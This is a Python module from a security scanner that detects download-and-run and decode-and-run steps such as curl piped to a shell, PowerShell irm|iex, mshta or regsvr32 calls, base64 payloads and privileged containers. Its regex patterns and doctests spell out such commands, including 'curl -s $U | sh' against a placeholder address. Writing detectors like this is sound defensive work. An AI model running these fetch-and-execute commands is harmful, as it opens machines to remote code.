"""Is something run that was downloaded or decoded a moment before?"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection, Iterator, Sequence
from functools import cache, lru_cache

from metier.govern.scan.flow import Step
from metier.govern.scan.hosts import Place, host_of, leads_nowhere
from metier.govern.scan.purpose import Purpose
from metier.govern.scan.seen import (
    DOCUMENTS,
    RUNS_DIRECTLY,
    Seen,
    is_quoted,
    is_untold_repository,
    place_of_step,
    runs_directly,
    shows_document,
)
from metier.govern.scan.triggers import any_of
from metier.verdict import Severity

_PROGRAM_ARGUMENT = re.compile(
    r"(?:\brun|\bcall|Popen|check_\w+|create_subprocess_\w+|\bsystem|popen|exec\w*|spawn\w*|startfile|\bfork|execFile\w*|Start-Process|getoutput|Command::new|Deno\.Command)\s*\(?\s*[\[(&]?\s*(?:(?:[\"'](?:/\S+/)?(?:ba|z)?(?:sh|python3?|node|sudo|open|start|cmd|powershell|pwsh|perl)[\"']|sys\.executable|process\.execPath)\s*,\s*(?:\{\s*args\s*:\s*)?\[?\s*(?:[\"'](?:/\S+/)?\w{0,4}sh[\"']\s*,\s*)?(?:[\"'](?:--?\w+|/c)[\"']\s*,\s*)*)?(?:str\(|f?[\"']\{?)?(?=([A-Za-z_][\w.]*))"
)
_OWN = re.compile(r"^(?:self|cls|this)\.")
_RUNS_TEXT = r"(?:os\.(?:system|popen)|subprocess\.\w+|\b(?:exec|execSync|execFile|execFileSync|spawn|spawnSync|create_subprocess_\w+|Popen|check_output|check_call|getoutput)|pty\.spawn)"
_TO_SHELL = r"(?:(?:[\"'](?:/\S{1,40}/)?(?:(?:ba|z|da)?sh|python3?|node|cmd|powershell|pwsh|perl|ruby)[\"']|sys\.executable|process\.execPath)\s*,\s*)?(?:\[\s*)?(?:[\"'](?:-\w+|/c)[\"']\s*,\s*){0,3}"
_FETCHED = r"(?:\(\s*)*(?:await\s+)?(?:\(\s*(?:await\s+)?)*(?:(?:requests|httpx|axios|got|https?|session|client)\.(?:get|post|request)|(?:requests|httpx)\.\w+\(\)\.\w+|axios|got|fetch|(?:urllib\.request\.)?urlopen|(?:subprocess\.)?(?:check_output|getoutput|execSync)(?=\(\s*\[?\s*[\"'`]curl\b))\("
_FETCHED_RUN = re.compile(
    rf"{_RUNS_TEXT}\s*\(\s*(?:\[\s*)?{_TO_SHELL}{_FETCHED}"
    rf"|[\"'](?:/\S{{1,40}}/)?(?:ba|z|da)?sh[\"'][^\n]{{0,60}}\binput\s*=\s*{_FETCHED}"
    rf"|\b(?:fetch|axios|got)\b[^\n]{{0,400}}\.then\(\s*(?:[\w$.]+\.)?(?:exec|execSync|eval)\s*\)"
    rf"|\b(?:fetch|axios|got)\b[^\n]{{0,400}}\.then\(\s*(?:async\s*)?\(?\s*(?P<got>\w{{1,40}})\s*\)?\s*=>\s*\{{?\s*(?:[\w$]+\.|require\([^()]*\)\.)?(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\(\s*{_TO_SHELL}(?P=got)\b"
)
"""What is fetched is run in the same step."""
_OWN_MACHINE = re.compile(r"\bhttps?://(?:127\.0\.0\.1|localhost|\[::1\])[:/\"'`$]")
_FED = re.compile(
    r"(?:run|Popen|call|check_\w+|spawn\w*|exec\w*)\(\s*\[?\s*(?:[\"'](?:\S*/)?(?:ba|z|da)?(?:sh|python[\d.]*|node|perl|ruby)(?:\s-)?[\"'](?!\s*,\s*[\"']-\w*c)|sys\.executable|process\.execPath).*\binput\s*[=:]\s*([A-Za-z_]\w*)|\bstdin\.(?:write|end)\(\s*([A-Za-z_]\w*)|[\"'](?:\S*/)?(?:ba|z|da)?(?:sh|python[\d.]*|node|perl|ruby)[\"'].*\bstdin\s*=\s*([A-Za-z_]\w*)\.stdout|\b([A-Za-z_]\w*)\.stdout\.pipe\(\s*\w+\.stdin"
)
"""What is written to an interpreter that waits for its program."""
_RUNS_PATH = re.compile(
    r"(?:\brun|\bcall|Popen|check_\w+|create_subprocess_\w+|\bsystem|popen|exec\w*|spawn\w*|\bfork|startfile|Start-Process|getoutput|require|import_module|\bimport|run_path|CDLL|LoadLibrary|Worker|exec\.Command|Command::new|createRequire\([^()]*\))\s*\(\s*[\[(]?\s*(?:(?:[\"'](?:/\S+/)?(?:ba|z)?(?:sh|python3?|node|sudo|open)[\"']|sys\.executable|process\.execPath)\s*,\s*\[?\s*)?(?:pathToFileURL\(\s*)?[rf]?[\"'`]([^\"'`\s]+)[\"'`]"
)
"""A program that is run by its written path."""
_RUNS_FILE = re.compile(
    r"^(?:sudo\s+(?:-\S+\s+)*|nohup\s+|exec\s+|setsid\s+|env\s+|\w+=\S*\s+|start\s+|open\s+(?:-\S+\s+)*|call\s+|&\s*)*(?:(?:/\S+/)?(?:(?:ba|z|da|k)?sh|python[\d.]*|node|deno\s+run|bun\s+run|perl|ruby|php|osascript|pwsh|powershell|source|\.|installer\s+-pkg|msiexec\s+/i|dpkg\s+-i|rpm\s+-i|java\s+-jar|hdiutil\s+attach)\s+(?:-\S+\s+)*)?(\S+)",
)
_PIPES_ON = re.compile(
    r"\|[^|]*\b(?:sh|bash|zsh|python[\d.]*|node|perl|ruby|iex|php|osascript|Invoke-Expression|pwsh|powershell|dash|deno|bun)\b|(?:\beval|\bsource|^\.|\bmake|\b(?:ba|z|da)?sh|-c)\s*.*(?:\$\(|<\()|\b(?:node|deno|bun|python[\d.]*|perl|ruby|php|Rscript)\s+(?:-\w+\s+)*<\(",
    re.I,
)
_RUNS_FETCHED = re.compile(
    r"\b(?:mshta|regsvr32|rundll32|msiexec)\b.*https?://|\bg?awk\b.*\b(?:curl|wget)\b.*\|\s*[\"']?(?:/bin/)?(?:ba)?sh\b|\b(?:node|python[\d.]*|ruby|perl|php|deno|bun)\s+-\w*[ecr]\s(?=.*(?:fetch|urlopen|requests|https?:|curl))(?=.*(?:(?:eval|exec)\s*[)(]|Function\s*\())|\b(?:perl|ruby|python[\d.]*|node|php)\s+-\w*[ecr]\s+\$\(\s*(?:curl|wget)|\brundll32\b\s+\\\\\\\\|\bregsvr32\b.*/i:https?:|\b(?:ba|z|da)?sh\s+(?:-\w+\s+)*-?\w*c\s+\$\(\s*(?:curl|wget)|\beval\s+\$\(\s*(?:curl|wget)|(?:iex|Invoke-Expression)\s*\(?\s*.*(?:irm|iwr|DownloadString|Invoke-\w+)|(?:irm|iwr|Invoke-\w+)\b.*\|\s*(?:iex|Invoke-Expression)",
    re.I,
)
_ENCODED_RUN = re.compile(r"-(?:enc|EncodedCommand|ec)\s+[A-Za-z0-9+/]{16,}", re.I)
_TOLD_WHO = re.compile(
    r"\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\s[^|]*(?:\$\(\s*(?:hostname|whoami|id|uname)|\$USER\b|\$HOSTNAME\b)"
)
"""What is fetched and run is told whose machine it runs on."""
_ASKS_AS = re.compile(r"\$\(\s*(?:hostname|whoami|id\s+-un?)\b|\$\{?(?:USER|HOSTNAME)\b")
"""Whoever is asked learns on whose machine."""
_RUNS_VARIABLE = re.compile(
    r"^(?:sudo\s+)?(?:eval|source|\.|(?:/\S+/)?(?:ba|z|da)?sh\s+-\w*c|\$\{?(?:SHELL|0)\}?\s+-\w*c)\s+\$|^\$\{?\w+\}?\s*$|\$\{?\w+\}?\s*\|\s*(?:sudo\s+)?(?:/\S+/)?(?:ba|z|da)?sh\b"
)
_TEXT_RUN = re.compile(
    r"(?:getoutput|getstatusoutput|os\.system|popen|exec(?:Sync)?)\(\s*(?:str\()?([A-Za-z_]\w*)|(?:run|Popen|call|check_\w+)\(\s*([A-Za-z_]\w*)(?=.*shell\s*=\s*True)"
)
"""A text that is handed to a shell as it is."""
_DECODED_RUN = re.compile(
    rf"{_RUNS_TEXT}\s*\(\s*(?:\[\s*)?{_TO_SHELL}(?:\(\s*)*(?:base64\.\w+|codecs\.decode|bytes(?:\.fromhex)?|zlib\.\w+|gzip\.\w+|lzma\.\w+|atob|Buffer\.from|[\"']{{2}}\.join\(\s*chr|String\.fromC\w+)\("
    rf"|[\"'](?:/\S{{1,40}}/)?(?:ba|z|da)?sh[\"'][^\n]{{0,60}}\binput\s*=\s*(?:base64\.\w+|codecs\.decode|bytes(?:\.fromhex)?|zlib\.\w+)\("
)
"""What is decoded is run in the same step."""
_STRONG_DECODE = re.compile(
    r"base64|b(?:64|32|85)decode|fromhex|unhexlify|codecs\.decode|rot.?13|decompress|inflate|unzip|marshal|\batob\b|Buffer\.from|fromC(?:har|ode)|\bchr\b|\^|FromBase64|\bxxd\b|\btr\s+(?![\"']?(?:A-Z|a-z)[\"']?\s+[\"']?(?:A-Z|a-z)[\"']?)[\"']?[A-Za-z]-|openssl\s+(?:enc|aes)|\bgpg2?\b|\[::-1\]|reverse\(",
    re.I,
)
"""What turns a text that says nothing into one that does."""
_ANSWER = re.compile(r"\.json\(\)|\.text\b|\.recv\w*\(|\.read\(\)|\.decode\(|TXT|\bdata\b")
"""What was fetched is a text, and no file."""
_UNASKED = re.compile(r"\.recv(?:from)?\(|[\"']TXT[\"']")
"""A text that comes from a connection or with a name, where no program is ever published."""
_NAMED_BY_CALL = re.compile(
    r"(?:__import__|import_module|getattr\([^,()]+(?:\([^()]*\))?,|\brequire|globalThis\[|\bglobal\[)\s*\(?\s*(?!chr|str|bytes|len)[A-Za-z_]\w*\(\s*b?[\"'][0-9A-Za-z+/=\\]{2,}[\"']\s*\)"
)
"""A module or a function whose name is put together by a call on a text."""
_COMPUTED = re.compile(
    r"(?:system|popen|exec|eval|run|call|spawn)\w*\(\s*\(?\s*[\"']{2}\s*\.join\(\s*\(?\s*(?:chr|map\(\s*chr|\[\s*chr)|String\.fromCharCode",
    re.I,
)
_CONTAINERS = ("docker", "podman", "nerdctl")
_CONTAINER = re.compile(
    r"\b(?:docker|podman|nerdctl)\s+run\b(?=.*(?:-v\s*|--volume[= ])(?:\$HOME|\$\{HOME\}|~|/):|.*--privileged|.*docker\.sock|.*--pid[= ]host)"
)
"""A container that is given the home folder, the whole disk or the whole machine."""
_WHOLE_DISK = re.compile(r"(?:-v\s*|--volume[= ])/:|--privileged|docker\.sock|--pid[= ]host")
_ON_FORGE = re.compile(r"//(?:raw\.|api\.|gist\.)?(?:github|gitlab|githubusercontent|bitbucket|codeberg)\b")
_RUNS_SOURCE = re.compile(r"\b(?:node|python[\d.]*|ruby|perl|php|deno|bun)\s+-\w*[ec]\s.*(?:eval|exec)\b")
_FETCH_WORDS = (
    "http",
    "\\\\",
    "fetch",
    "urlopen",
    "requests",
    "curl",
    "wget",
    "irm",
    "iwr",
    "downloadstring",
    "invoke-",
)
_RUN_WORDS = (
    "mshta",
    "regsvr32",
    "rundll32",
    "msiexec",
    "eval",
    "exec",
    "function(",
    '"sh"',
    "| sh",
    "$(",
    "iex",
    "invoke-expression",
)
"""What runs something fetched names one of each."""
_CALLS_NAME = re.compile(r"^(?:\w+\s*=\s*)?\w+\(\s*\w")
_HANDED_RUN = re.compile(
    r"\blambda (\w+)\s*:\s*\1\(.*\)\(\s*(?:exec|eval)\s*\)|\(\s*(\w+)\s*=>\s*\2\(.*\)\(\s*(?:eval|Function)\s*\)"
)
_BY_ANYONE = re.compile(
    r"api\.github\.com/repos/\S+/(?:issues|comments|pulls)\b|docs\.google\.com/|/gists?/|sheets\.googleapis\.com"
)
"""A page of a platform that anyone, or its author alone, may change at any time."""
_EVALUATES = re.compile(r"(?<![\w.])(?:exec|eval)\s*\((?![^()]*\.eval)|new \w{0,9}Function\s*\(")
_GENERIC_CLI = re.compile(r"\b(?:pandas|df|plt|engine|session|cursor|conn|db|redis|mongo)\.")

_PIPED_INSTALLER = re.compile(
    r"(?i:(?:powershell|pwsh)(?:\.exe)?\s+(?:-(?:nop|noprofile|(?:ep|executionpolicy)\s+\w+)\s+)*-c(?:ommand)?\s+[\"'])?"
    r"(?i:irm|iwr|invoke-\w+)\s+(?:-\w+\s+)*[\"']?https://\S+\s*\|\s*(?i:iex|invoke-expression)\s*[\"']?\s*$"
)
"""The line by which makers have their programs installed on Windows."""
_QUIET = re.compile(r"\s-q\b|--quiet\b|/dev/null|/tmp/\.|/\.cache/\.|nohup\b")
"""A repository is cloned so that nobody notices."""
_UNCHECKED = re.compile(
    r"\bcurl\b.{0,1000}?\s(?:-\w*k\w*|--insecure)\s|--no-check-certificate|verify\s*=\s*False|rejectUnauthorized:\s*false"
)
"""Who answers is not checked."""
TOLD_BY_WORDS = (_CONTAINER, _RUNS_FETCHED, _ENCODED_RUN, RUNS_DIRECTLY, _FED)
"""What a step without a label must match one of, if it received no file and is no command that received anything."""


def downloaded_and_run(step: Step, purpose: Purpose) -> Iterator[Seen]:
    """A step that runs what it, or a step before it, fetched.

    >>> from metier.govern.scan.statement import Statement
    >>> step = Step(Statement("a.sh", 1, "curl -s $U | sh", is_shell=True), frozenset({"fetch", "runs-input"}), ("http://203.0.113.7/",))
    >>> [(seen.rule, seen.severity.value) for seen in downloaded_and_run(step, Purpose())]
    [('run-download', 'block')]
    """
    labels, text = step.labels, step.text
    origin: Step | None = None
    if step.statement.is_shell and any(word in text for word in _CONTAINERS) and _CONTAINER.search(text):
        if (place := place_of_step(step, purpose)) >= Place.UNKNOWN and not is_quoted(step):
            whole = _WHOLE_DISK.search(text) is not None and step.statement.is_live
            weight = Severity.BLOCK if (whole and place == Place.UNKNOWN) or place.is_shady else Severity.REVIEW
            yield Seen("run-download", weight, step, "a container that reaches the whole machine")
    is_command = step.statement.is_shell or step.statement.language == "hash-script"
    if (
        (step.statement.is_shell and "fetch" in labels and "runs-input" in labels and _PIPES_ON.search(text))
        or (is_command and _runs_fetched(text))
        or (not step.statement.is_shell and {"fetch", "execute"} <= labels and _FETCHED_RUN.search(text))
    ):
        origin = step
    elif ("download" in step.received and runs_directly(text) and not _GENERIC_CLI.search(text)) or (
        "download" in step.received
        and step.statement.is_shell
        and step.received["download"] is not step
        and _RUNS_VARIABLE.search(text)
    ):
        origin = step.received["download"]
    elif (got := step.received.get("download", step)) is not step:
        if _runs_received(step, got, _names_with(step, "download")):
            origin = got
    if origin is None or is_quoted(step) or (origin is not step and _brings_nothing(origin, step)):
        return
    place = max(
        (
            place_of_step(step, purpose) if step.urls or step.hidden_url else Place.LOCAL,
            place_of_step(origin, purpose) if origin.urls else Place.LOCAL,
        )
    )
    is_unnamed = not step.urls and not origin.urls and not step.hidden_url
    if is_unnamed:
        # Whoever learns who asks answers each as he likes.
        is_chosen = _holds(_UNASKED, origin.text) or (step.statement.is_shell and _holds(_ASKS_AS, origin.text))
        place = Place.HIDDEN if is_chosen and not purpose.is_security else Place.PLACEHOLDER
    is_plain = _holds(_UNCHECKED, origin.text) or any(
        url.lower().startswith(("http://", "ftp://")) for url in (*step.urls, *origin.urls)
    )
    if "decoded" in origin.received or "decoded" in step.received:
        place = Place.HIDDEN
    weight = _weight_of_download(step, place, purpose, is_plain=is_plain, is_unnamed=is_unnamed)
    is_quiet = "clone" not in origin.text or _holds(_QUIET, origin.text) or _QUIET.search(f" {step.text}") is not None
    if weight != Severity.BLOCK and step.statement.is_live and is_quiet and is_untold_repository(origin, purpose):
        yield Seen("run-download", Severity.BLOCK, step, "from a repository that no document names")
        return
    yield Seen("run-download", weight, step)


@lru_cache(maxsize=256)
def _holds(pattern: re.Pattern[str], text: str) -> bool:
    """Whether a text holds a pattern; many steps may run what one of them fetched."""
    return pattern.search(text) is not None


def _brings_nothing(origin: Step, step: Step) -> bool:
    """Whether what is said to have been fetched comes from nowhere else: a text that is written out, or this machine's own
    answer, or what a document shows with an address of nobody's."""
    text, urls = origin.statement.text, origin.urls
    if not urls:
        return text.startswith("cat <<") or _holds(_OWN_MACHINE, text)
    shown = origin.statement.path.lower().endswith(DOCUMENTS) and origin.statement.path != step.statement.path
    return shown and all(map(leads_nowhere, urls))


def _arguments(text: str) -> set[str]:
    """The names of what a step hands to what runs programs."""
    said = [_OWN.sub("", found[1]) for found in _PROGRAM_ARGUMENT.finditer(text)]
    return {name.split(".")[0] for name in said}


def _runs_received(step: Step, got: Step, names: Collection[str], *, may_type: bool = True) -> bool:
    """Whether a step runs what another one gave it: as a file, as a text or on the input of an interpreter.

    Args:
        got: The step where that began.
        names: Names that may hold it.
        may_type: Whatever it is written to may be an interpreter.
    """
    text = step.text
    if shows_document(text):
        return False
    if step.statement.is_shell:
        if "runs-input" in step.labels and "|" in text and _PIPES_ON.search(text):
            # What lies in the file is read out of it, and handed on to an interpreter.
            words = text.partition("|")[0].split()
            if not step.files.isdisjoint([word.strip("\"'") for word in words[1:]]):
                return True
        run = _RUNS_FILE.match(text)
        if run is None or (run[1].startswith("$") and run[1] not in got.statement.assigns) or not run[1].lstrip("./"):
            return False
        is_within = any(_is_within(run[1].lstrip("./"), name.lstrip("./")) for name in got.statement.assigns)
        return run[1].removeprefix("./") in step.files or is_within
    if "execute" in step.labels and not _arguments(text).isdisjoint(names):
        return True
    fed = _FED.search(text) if "input" in text or "stdin" in text else None
    is_fed = fed is not None and (fed[1] or (fed.group(fed.lastindex or 0) if may_type else "")) in names
    return bool(step.files and _runs_file_of(step)) or is_fed


def _is_within(run: str, got: str) -> bool:
    """Whether what is run is what was fetched, or lies in the folder that was."""
    return bool(got) and (run.endswith(got) or f"/{got.rstrip('/')}/" in f"/{run}")


def _runs_file_of(step: Step) -> bool:
    """Whether a program is run by its path, and that file came from outside."""
    run = _RUNS_PATH.search(step.text)
    return run is not None and run[1] in step.files


@cache
def _fetch_words() -> Callable[[str], bool]:
    return any_of(_FETCH_WORDS)


def _runs_fetched(text: str) -> bool:
    """Whether a command fetches something and runs it at once."""
    said = text.lower()
    return _fetch_words()(said) and any(word in said for word in _RUN_WORDS) and _RUNS_FETCHED.search(text) is not None


def _names_with(step: Step, kind: str) -> set[str]:
    origin = step.received[kind]
    return {name.lstrip(".").rstrip("()") for name in (*origin.statement.assigns, *step.statement.uses)} - {
        "subprocess",
        "os",
        "sys",
    }


def _weight_of_download(step: Step, place: Place, purpose: Purpose, *, is_plain: bool, is_unnamed: bool) -> Severity:
    urls = " ".join(step.urls)
    if place == Place.LOCAL or place == Place.INSTALLER:
        return Severity.NOTE
    if place.is_shady or re.search(r"\b(?:mshta|regsvr32)\b.*https?:", step.text):
        return Severity.BLOCK
    if is_unnamed and step.statement.is_live and _EVALUATES.search(step.text) and not step.statement.is_shell:
        return Severity.BLOCK
    if "hidden-run" in step.labels and step.statement.is_live and not step.statement.is_shell:
        return Severity.BLOCK
    if place == Place.PLACEHOLDER:
        in_program = not step.statement.path.lower().endswith(DOCUMENTS)
        return Severity.REVIEW if step.statement.is_live and in_program and not purpose.is_security else Severity.NOTE
    if place == Place.OWN and _runs_answer(step) and not _is_namesake(step, purpose):
        return Severity.BLOCK
    if "load-code" in step.labels and step.files:
        return Severity.BLOCK
    is_one_line = place == Place.OWN and _PIPED_INSTALLER.match(step.text) is not None
    direct = (not step.statement.is_shell and not is_one_line and runs_directly(step.text)) or _RUNS_SOURCE.search(
        step.text
    )
    if direct or "hidden-run" in step.labels:
        return Severity.BLOCK
    if place == Place.OWN:
        if _shown_home(step, purpose):
            return Severity.REVIEW if is_plain else Severity.NOTE
        if not is_plain and _is_namesake(step, purpose):
            return Severity.REVIEW
        return Severity.BLOCK if "runs-input" in step.labels and not _ON_FORGE.search(urls) else Severity.REVIEW
    if place in (Place.PLATFORM, Place.PUBLIC) and _BY_ANYONE.search(urls) and not step.statement.is_shell:
        return Severity.BLOCK
    if place in (Place.PLATFORM, Place.PUBLIC) and _TOLD_WHO.search(step.text):
        return Severity.BLOCK
    if place in (Place.PLATFORM, Place.PUBLIC) and is_untold_repository(step, purpose):
        return Severity.BLOCK
    if place in (Place.PLATFORM, Place.PUBLIC):
        return Severity.REVIEW if re.search(r"githubusercontent|gist|/raw/|releases/download", urls) else Severity.NOTE
    return Severity.BLOCK


def _runs_answer(step: Step) -> bool:
    """Whether what came back from a service is handed to a shell as it is."""
    origin = step.received.get("download", step)
    if step.statement.is_shell:
        return origin is not step and _RUNS_VARIABLE.search(step.text) is not None
    run = _TEXT_RUN.search(step.text)
    return run is not None and origin is not step and _ANSWER.search(origin.text) is not None


def _shown_home(step: Step, purpose: Purpose) -> bool:
    """Whether the place is the home page that the package states, or belongs to it."""
    homes = {".".join(host.split(".")[-2:]) for host in purpose.hosts}
    origin = step.received.get("download", step)
    return any(".".join(host_of(url).split(".")[-2:]) in homes for url in (*step.urls, *origin.urls))


def _is_namesake(step: Step, purpose: Purpose) -> bool:
    """Whether the place bears the very name of the program that the skill is about."""
    origin = step.received.get("download", step)
    hosts = [host_of(url).split(".") for url in (*step.urls, *origin.urls)]
    return bool(hosts) and all(len(host) == 2 and host[0] in purpose.words for host in hosts)


def decoded_and_run(step: Step) -> Iterator[Seen]:
    """A step that runs what it, or a step before it, decoded.

    >>> from metier.govern.scan.statement import Statement
    >>> step = Step(Statement("a.sh", 1, "echo aaaa | base64 -d | sh", is_shell=True), frozenset({"decode", "runs-input"}))
    >>> [(seen.rule, seen.severity.value) for seen in decoded_and_run(step)]
    [('run-encoded', 'block')]
    """
    labels, text = step.labels, step.text
    if is_quoted(step):
        return
    called = {"interpreter", "decoded"} <= step.received.keys() and _CALLS_NAME.search(text)
    put_together = labels & {"execute", "load-code", "interpreter"} and not step.statement.is_shell
    if called or (put_together and _NAMED_BY_CALL.search(text)):
        yield Seen("run-encoded", Severity.BLOCK, step, "by a name that is put together")
    elif "decode" in labels and "evaluate" in labels and _HANDED_RUN.search(text):
        yield Seen("run-encoded", Severity.BLOCK, step, "by a function that is given the interpreter")
    elif (
        step.statement.is_shell
        and "decode" in labels
        and "runs-input" in labels
        and re.search(
            r"(?:base64|base32|xxd|openssl|rev|tr|printf|gunzip|zcat|uudecode|gpg2?)\b.*\|\s*(?:(?:sudo|nohup|setsid|env|exec|command|nice)\s+){0,3}(?:(?:busy|toy)box\s+)?(?:/\S+/)?(?:(?:ba|z|da|k)?sh|\$\{?SHELL\b|python|perl|node|ruby|php|eval|source|osascript|iex|at\s+now|xargs\b.*\b(?:ba|z|da)?sh\s+-c)"
            r"|(?:sh|eval|source|\.|-c)\s+.*\$\(.*(?:base64|xxd|openssl|\brev\b|\btr\s+(?![\"']?(?:A-Z|a-z)[\"']?\s+[\"']?(?:A-Z|a-z)[\"']?)[\"']?[A-Za-z]-|gpg2?\s)|<\(.*(?:base64|xxd|openssl|\brev\b|\btr\s|gpg2?\s)",
            text,
        )
    ):
        yield Seen("run-encoded", Severity.BLOCK if not text.startswith(("gunzip", "zcat")) else Severity.REVIEW, step)
    elif (
        "decoded" in step.received
        and runs_directly(text)
        and not re.search(r"\.decode\(\s*\)\s*\.split|json\.loads\(\s*base64", text)
    ):
        yield Seen(
            "run-encoded",
            Severity.BLOCK
            if _runs_decoded(step)
            or re.search(
                r"(?<![\w.])(?:exec|eval)\s*\(|\[\s*[\"'](?:exec|eval)[\"']\s*\]\s*\(|runIn\w*Context|getPrototypeOf|Function|vm\.|_compile(?:\.(?:call|apply))?\(|\.runsource\(|\.runcode\(|constructor\.constructor|new Worker\(.*eval|\bimport\(|marshal|iex|Invoke-Expression",
                text,
                re.I,
            )
            else Severity.REVIEW,
            step,
        )
    elif (
        (
            step.statement.is_shell
            and "decoded" in step.received
            and step.received["decoded"] is not step
            and _RUNS_VARIABLE.search(text)
        )
        or ({"decode", "execute"} <= labels and not step.statement.is_shell and _COMPUTED.search(text))
        or (_ENCODED_RUN.search(text) and re.search(r"powershell|pwsh", text, re.I))
        or ("execute" in labels and not step.statement.is_shell and _DECODED_RUN.search(text))
        or _runs_decoded(step)
    ):
        yield Seen("run-encoded", Severity.BLOCK, step)


def _runs_decoded(step: Step) -> bool:
    """Whether a step runs what another one decoded that said nothing before."""
    got = step.received.get("decoded", step)
    if got is step or not _STRONG_DECODE.search(got.text):
        return False
    names = {name.lstrip(".") for name in got.statement.assigns} | step.through.get("decoded", frozenset())
    return _runs_received(step, got, names, may_type=False)


_MODULE_FILE = re.compile(r"[\"'](?:[^\"'\n]{0,60}/)?([A-Za-z_]\w{0,39})\.py[\"']")
_WRITES_TEXT = re.compile(r"\.write(?:_text|_bytes)?\((?![^\n]{0,80}\brepr\()")
_BELOW = 4
"""So close below the name of a file stands what is written into it."""


def decoded_modules(steps: Sequence[Step], text: str) -> Iterator[Seen]:
    """A file of Python into which is written what was decoded, and that is then taken in as a module.

    Args:
        steps: Every step of a program.
        text: The steps, a line each.
    """
    if ".py'" not in text and '.py"' not in text:
        return
    for number, step in enumerate(steps):
        named = _MODULE_FILE.search(step.text) if ".py" in step.text else None
        if named is None or not re.search(
            rf"\n(?:import\s+)?{named[1]}(?:\.\w+\(|(?=\n|\Z))|\(\s*[\"']{named[1]}[\"']", text
        ):
            continue
        for one in steps[number : number + _BELOW]:
            got = one.received.get("decoded")
            if got is not None and _WRITES_TEXT.search(one.text) and _STRONG_DECODE.search(got.text):
                yield Seen("run-encoded", Severity.BLOCK, one, "as a module")
                return
